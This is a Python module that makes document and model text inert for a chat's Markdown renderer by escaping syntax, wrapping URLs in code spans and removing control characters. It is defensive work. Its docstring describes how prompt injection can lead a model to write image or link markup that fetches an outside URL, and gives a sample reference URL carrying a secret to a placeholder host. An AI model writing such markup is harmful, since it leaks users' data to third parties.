"""Text from documents and models, made inert for the browser: words only, nothing that fetches.

The chat renders Markdown (answers, streamed drafts, upload status). Markdown can make a browser
fetch a URL the moment it renders: inline images ``![x](url)``, reference-style images
``![x][r]`` with a definition ``[r]: //host/x.png?q=secret`` anywhere in the text, autolinks
``<http://...>``, raw HTML ``<img src=...>``. A document can plant any of these (prompt
injection), and a model can be made to write them; a file name or a CSV cell reaches the upload
status the same way. So everything that is not ours is escaped character by character: every
Markdown mark that starts syntax gets a backslash, HTML's specials become entities, and URLs are shown
as code spans (readable, never clickable). What remains renders as the same words, and nothing
else: no link, image, heading, table, maths or HTML can start from it.
"""

from __future__ import annotations

import html
import re

# What starts Markdown syntax that matters: links, images and reference definitions need "[",
# code spans "`", emphasis, headings, tables and strikethrough the rest; "$" is maths (the chat
# also turns maths rendering off). Backslash-escaping ASCII punctuation is always allowed in
# CommonMark; a bare "(url)" or "!" is no syntax once "[" is escaped.
_MARKDOWN = set("\\`*_[]#|~$")
_ENTITY = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_URL = re.compile(r"\b(?:https?|ftp|file)://[^\s<>`]*|\bwww\.[^\s<>`]+|\b(?:data|javascript|mailto):[^\s<>`]+"
                  r"|(?<![\w/])//[\w.-]+\.[a-z]{2,}[^\s<>`]*", re.I)
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _escape_words(text: str) -> str:
    return "".join(_ENTITY.get(ch) or (f"\\{ch}" if ch in _MARKDOWN else ch) for ch in text)


def inert(text: str) -> str:
    """``text`` as Markdown that renders as its own words: no HTML, links, images or syntax."""
    text = _CONTROL.sub("", str(text))
    out, pos = [], 0
    for m in _URL.finditer(text):
        out.append(_escape_words(text[pos:m.start()]))
        out.append(f"`{m.group(0)}`")
        pos = m.end()
    out.append(_escape_words(text[pos:]))
    return "".join(out)


def without_controls(text: str) -> str:
    """``text`` for a plain-text widget (a table cell): control and direction characters removed."""
    return _CONTROL.sub("", str(text))


def inert_html(text: str) -> str:
    """``text`` for an HTML context (the sources panel): escaped, control characters removed."""
    return html.escape(without_controls(text))
